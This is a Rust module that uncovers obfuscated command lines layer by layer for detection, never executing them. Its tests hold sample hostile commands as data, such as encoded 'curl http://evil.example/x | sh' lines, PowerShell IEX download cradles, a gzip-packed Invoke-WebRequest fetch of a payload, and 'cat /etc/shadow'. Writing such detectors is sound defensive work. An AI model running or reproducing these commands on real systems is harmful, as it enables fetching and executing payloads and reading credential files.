//! What an attacker hides in a command line, uncovered layer by layer.
//!
//! Nothing is run. Every step is linear in its input, and depth, number and size of the layers are
//! bounded, so that a hostile line of any length costs little.

mod encodings;
mod tricks;

pub use tricks::filled_in;

use std::collections::VecDeque;

use aside_shared::analysis::Layer;

use crate::command_line::head;

/// How often a layer may hide another.
const DEEPEST: usize = 5;
/// The most layers of one line.
const MOST: usize = 16;
/// The longest layer, in bytes.
const LAYER_MAX: usize = 64 * 1024;
/// Longer lines are read up to here, in bytes.
const LINE_MAX: usize = 256 * 1024;
/// Shorter findings say nothing.
const SHORTEST: usize = 3;

/// A way of hiding: its name, and what it uncovers in a text.
type Step = (&'static str, fn(&str) -> Vec<String>);

/// The ways, as rules know them by `DecodedFrom`. What rewrites a whole text comes before what lifts
/// a part out of it.
const STEPS: &[Step] = &[
    ("caret", tricks::carets),
    ("backtick", tricks::backticks),
    ("quote-insertion", tricks::quotes),
    ("environment-slice", tricks::environment),
    ("environment-slice", tricks::indexed),
    ("variables", tricks::variables),
    ("replace", tricks::replaced),
    ("format-operator", tricks::format_operator),
    ("concatenation", tricks::concatenation),
    ("reversed", tricks::reversed),
    ("base64", encodings::base64),
    ("gzip", encodings::compressed),
    ("hex", encodings::hex),
    ("char-codes", encodings::char_codes),
    ("url-encoding", encodings::percent),
];

/// Whether a layer is the text that hid it made clear, and not a part that was lifted out of it: its
/// first word is then still the program.
pub fn rewrites(layer: &Layer) -> bool {
    matches!(
        layer.hidden_by.as_str(),
        "caret"
            | "backtick"
            | "quote-insertion"
            | "environment-slice"
            | "variables"
            | "replace"
            | "format-operator"
            | "concatenation"
    )
}

/// What `command_line` hides, outermost first; each text once.
pub fn layers(command_line: &str) -> Vec<Layer> {
    let mut found: Vec<Layer> = Vec::new();
    let mut left = VecDeque::from([(head(command_line, LINE_MAX).to_owned(), 0)]);
    while let Some((text, depth)) = left.pop_front() {
        if depth == DEEPEST {
            break;
        }
        for (hidden_by, uncover) in STEPS {
            for uncovered in uncover(&text) {
                let uncovered = head(&uncovered, LAYER_MAX);
                let is_new = uncovered.trim().len() >= SHORTEST
                    && uncovered != text
                    && uncovered != command_line
                    && !found.iter().any(|known| known.text == uncovered);
                if !is_new {
                    continue;
                }
                if found.len() == MOST {
                    return found;
                }
                found.push(Layer {
                    hidden_by: (*hidden_by).to_owned(),
                    text: uncovered.to_owned(),
                });
                left.push_back((uncovered.to_owned(), depth + 1));
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    use proptest::prelude::*;

    use super::*;

    fn utf16(text: &str) -> String {
        STANDARD.encode(
            text.encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect::<Vec<u8>>(),
        )
    }

    fn uncovers(line: &str, hidden_by: &str, text: &str) {
        let found = layers(line);
        let is_there = found
            .iter()
            .any(|layer| layer.hidden_by == hidden_by && layer.text.contains(text));
        assert!(
            is_there,
            "{line:?} should hide {text:?} by {hidden_by}, found {found:?}"
        );
    }

    #[test]
    fn each_way_of_hiding_is_seen_through() {
        uncovers(
            &format!(
                "powershell -nop -enc {}",
                utf16("IEX (New-Object Net.WebClient)")
            ),
            "base64",
            "IEX (New-Object",
        );
        uncovers(
            "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh",
            "base64",
            "curl http://evil.example/x | sh",
        );
        uncovers("c^m^d /c w^ho^am^i", "caret", "cmd /c whoami");
        uncovers(
            "powershell I`E`X (n`ew-obj`ect net.webclient)",
            "backtick",
            "IEX (new-object net.webclient)",
        );
        uncovers(
            "cmd /c po\"\"wer\"\"shell -c whoami",
            "quote-insertion",
            "powershell -c whoami",
        );
        uncovers("sh -c w'h'oa'm'i", "quote-insertion", "whoami");
        uncovers(
            "sh -c cat${IFS}/etc/shadow",
            "quote-insertion",
            "cat /etc/shadow",
        );
        uncovers(
            "powershell \"('Down'+'load'+'String')\"",
            "concatenation",
            "DownloadString",
        );
        uncovers(
            "powershell (\"{1}{0}\" -f 'X','IE')",
            "format-operator",
            "IEX",
        );
        uncovers(
            "powershell -c ('gnirtSdaolnwoD'[-1..-14] -join '')",
            "reversed",
            "DownloadString",
        );
        uncovers(
            "powershell -c ([char]73+[char]69+[char]88+[char]32)",
            "char-codes",
            "IEX",
        );
        uncovers(
            "powershell -c ([char[]](119,104,111,97,109,105) -join '')",
            "char-codes",
            "whoami",
        );
        uncovers(
            "python3 -c exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73')",
            "hex",
            "import os",
        );
        uncovers(
            "echo 6375726c20687474703a2f2f6578616d706c652f78 | xxd -r -p | sh",
            "hex",
            "curl http://example/x",
        );
        uncovers(
            "cmd /v /c set a=who& set b=ami& call %a%%b%",
            "environment-slice",
            "whoami",
        );
        uncovers(
            "powershell $a='Down';$b='loadString';iex $a+$b",
            "concatenation",
            "DownloadString",
        );
        uncovers("sh -c 'a=who;b=ami;$a$b'", "variables", "whoami");
        uncovers(
            "powershell ('DoXYwnlXYoadString').Replace('XY','')",
            "replace",
            "DownloadString",
        );
        uncovers(
            "powershell ('DoQQwnloadString' -replace 'QQ','')",
            "replace",
            "DownloadString",
        );
        uncovers(
            "powershell .($env:ComSpec[4,15,25]-join'') $x",
            "environment-slice",
            "iex",
        );
        uncovers(
            "powershell &($PSHome[4]+$PSHome[30]+'x') $x",
            "concatenation",
            "iex",
        );
        uncovers(
            "echo imaohw-elpmaxe | rev | sh",
            "reversed",
            "example-whoami",
        );
        uncovers(
            "mshta javascript:%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65",
            "url-encoding",
            "document.write",
        );
    }

    #[test]
    fn compressed_scripts_are_unpacked() {
        use std::io::Write;
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gzip.write_all(b"Invoke-WebRequest http://evil.example/payload -OutFile x")
            .unwrap();
        let packed = STANDARD.encode(gzip.finish().unwrap());
        let script = format!(
            "New-Object IO.Compression.GzipStream([Convert]::FromBase64String('{packed}'))"
        );
        uncovers(
            &format!("powershell -enc {}", utf16(&script)),
            "gzip",
            "Invoke-WebRequest http://evil.example/payload",
        );
    }

    #[test]
    fn ordinary_lines_hide_nothing() {
        for line in [
            r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
            "/usr/bin/python3 /usr/lib/python3/dist-packages/x/y.py --config /etc/abcdefghijklmnop",
            "git commit -m 3f786850e387550fdab836ed7e6dc881de23001b",
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1718379636,12345678901234567890"#,
            "tar -xzf /tmp/archive.tar.gz -C /opt/application/releases/20260101",
            "msiexec /i {8A69D345-D564-463C-AFF1-A69D9E530F96} /qn",
        ] {
            assert_eq!(layers(line), [], "{line}");
        }
    }

    #[test]
    fn a_decompression_bomb_and_endless_nesting_stay_small() {
        use std::io::Write;
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gzip.write_all(&vec![b'a'; 50_000_000]).unwrap();
        let found = layers(&STANDARD.encode(gzip.finish().unwrap()));
        assert!(found.iter().map(|layer| layer.text.len()).sum::<usize>() <= MOST * LAYER_MAX);
        let mut nested = "whoami /all /fo list".to_owned();
        for _ in 0..20 {
            nested = STANDARD.encode(nested);
        }
        assert!(layers(&nested).len() <= MOST);
    }

    proptest! {
        #[test]
        fn encodings_round_trip_and_nest(text in "[a-zA-Z]{8}[ -~]{4,60}", by in 0..3_usize, twice in any::<bool>()) {
            let encode = |text: &str| match by {
                0 => utf16(text),
                1 => STANDARD.encode(text),
                _ => hex::encode(text),
            };
            let mut line = encode(&text);
            if twice {
                line = utf16(&line);
            }
            let found = layers(&format!("run {line}"));
            prop_assert!(found.iter().any(|layer| layer.text.trim() == text.trim()), "{:?}", found);
        }

        #[test]
        fn no_text_breaks_a_step(text in any::<String>(), noise in "[\"'`^%$+\\\\{}a-f0-9x,()\\[\\]-]{0,200}") {
            let _uncovered = layers(&text);
            let _uncovered = layers(&noise);
        }
    }
}
